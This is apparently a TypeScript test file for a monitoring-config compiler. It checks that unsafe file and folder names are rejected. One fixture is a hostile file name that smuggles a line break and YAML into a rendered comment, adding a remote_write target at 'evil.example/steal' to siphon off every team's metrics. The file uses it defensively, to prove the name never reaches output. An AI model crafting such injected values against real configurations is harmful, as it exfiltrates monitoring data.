import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compileFiles, BASIC_SHARDS_YAML, writeRepository } from '../support/repo-fixture.ts';
import { createGitRepo } from '../support/git-repo.ts';
import { compileRepository } from '../../core/compiler/compile-repository.ts';
import { ALL_RULES } from '../../ci/rules/index.ts';
import { readRepositoryFromDirectory, readRepositoryFromGit } from '../../core/repository/repository-source.ts';
import { buildShardDocuments } from '../../core/render/shard-documents.ts';
import { assertDocExamples, findingsOf, assertFinding, team } from './helpers.ts';
import { parse } from 'yaml';

// The attack of issue 10: a file name that, written raw into a rendered comment, ends the comment and
// adds a remote_write section sending every team's samples elsewhere.
// A file name cannot hold "/", so the URL is written with YAML escapes.
const HOSTILE = 'teams/netops/x\nremote_write:\n  - url: "http:\\x2f\\x2fevil.example\\x2fsteal"\n#.yaml';
const JOB = team('  - name: stolen\n    targets: ["a.internal:9100"]\n');

test('file-name: docs examples', () => {
  assertDocExamples('file-name', [{ file: 'teams/netops/main(copy).yaml', line: 1, column: 1, includes: 'file name "main(copy).yaml" holds "(" at character 5' }]);
});

test('file-name: a name with a line break and YAML is refused at 1:1, not read, and nothing of it is rendered', () => {
  const c = compileFiles({ 'shards.yaml': BASIC_SHARDS_YAML, [HOSTILE]: JOB, 'teams/netops/ok.yaml': team('  - name: fine\n    targets: ["b.internal:9100"]\n') });
  const [f] = findingsOf(c, 'file-name');
  assertFinding(f, { ruleId: 'file-name', file: HOSTILE, line: 1, column: 1, includes: ['holds U+000A LINE FEED (a line break) at character 2', 'the file is not read'] });
  assert.equal(f.hint, 'rename it to "x_remote_write_-_url_http_x2f_x2fevil.example_x2fsteal.yaml"');
  assert.equal(c.valid, false);
  assert.deepEqual(c.model!.files, ['teams/netops/ok.yaml']);
  const jobs = c.model!.shards.flatMap((s) => s.jobs.map((j) => j.name));
  assert.deepEqual(jobs, ['fine']);
});

test('file-name: folder names too; every character outside the set is named with its position', () => {
  const cases: [string, string][] = [
    ['teams/net ops/a.yaml', 'team folder name "net ops" holds a space at character 4'],
    ['teams/netops/a\u202eb.yaml', 'file name "a\\u202eb.yaml" holds U+202E RIGHT-TO-LEFT OVERRIDE (a bidi control: it reorders how the text reads) at character 2'],
    ['teams/netops/a\u0085.yaml', 'holds U+0085 NEXT LINE (NEL) (a line break) at character 2'],
    ['teams/netops/a\u2028.yaml', 'holds U+2028 LINE SEPARATOR (a line break) at character 2'],
    ['teams/netops/ä.yaml', 'holds U+00E4 (an invisible formatting character)'.replace(' (an invisible formatting character)', '')],
    ['teams/netops/a#b.yml', 'file name "a#b.yml" holds "#" at character 2'],
    ['teams/netops/a:b.yaml', 'holds ":" at character 2'],
  ];
  for (const [path, message] of cases) {
    const f = findingsOf(compileFiles({ 'shards.yaml': BASIC_SHARDS_YAML, [path]: JOB }), 'file-name');
    assert.equal(f.length, 1, path);
    assert.ok(f[0].message.includes(message), `${JSON.stringify(path)}: ${f[0].message}`);
  }
  for (const path of ['teams/net-ops_2/a.b-c_d.yaml', 'teams/NetOps/Main.yml']) assert.deepEqual(findingsOf(compileFiles({ 'shards.yaml': BASIC_SHARDS_YAML, [path]: JOB }), 'file-name'), [], path);
});

test('file-name: the hostile name read from a real git revision and a real directory never reaches a rendered configuration', async () => {
  const repo = createGitRepo({ 'shards.yaml': BASIC_SHARDS_YAML, [HOSTILE]: JOB });
  const dir = writeRepository({ 'shards.yaml': BASIC_SHARDS_YAML, [HOSTILE]: JOB });
  try {
    for (const source of [await readRepositoryFromGit(repo.dir, 'HEAD'), readRepositoryFromDirectory(dir)]) {
      assert.ok(source.files.some((f) => f.path === HOSTILE), `${source.origin} holds the file`);
      const c = compileRepository(source, { rules: ALL_RULES });
      assert.equal(findingsOf(c, 'file-name').length, 1, source.origin);
      for (const doc of buildShardDocuments(c.model!, { revision: 'x', generation: 1, sequence: 1, committedAt: '2026-01-01T00:00:00Z' } as never).values()) {
        const text = doc.files[0].content;
        assert.ok(!text.includes('evil'), text);
        assert.deepEqual(Object.keys(parse(text)), ['global', 'scrape_configs']);
      }
    }
  } finally {
    repo.destroy();
  }
});
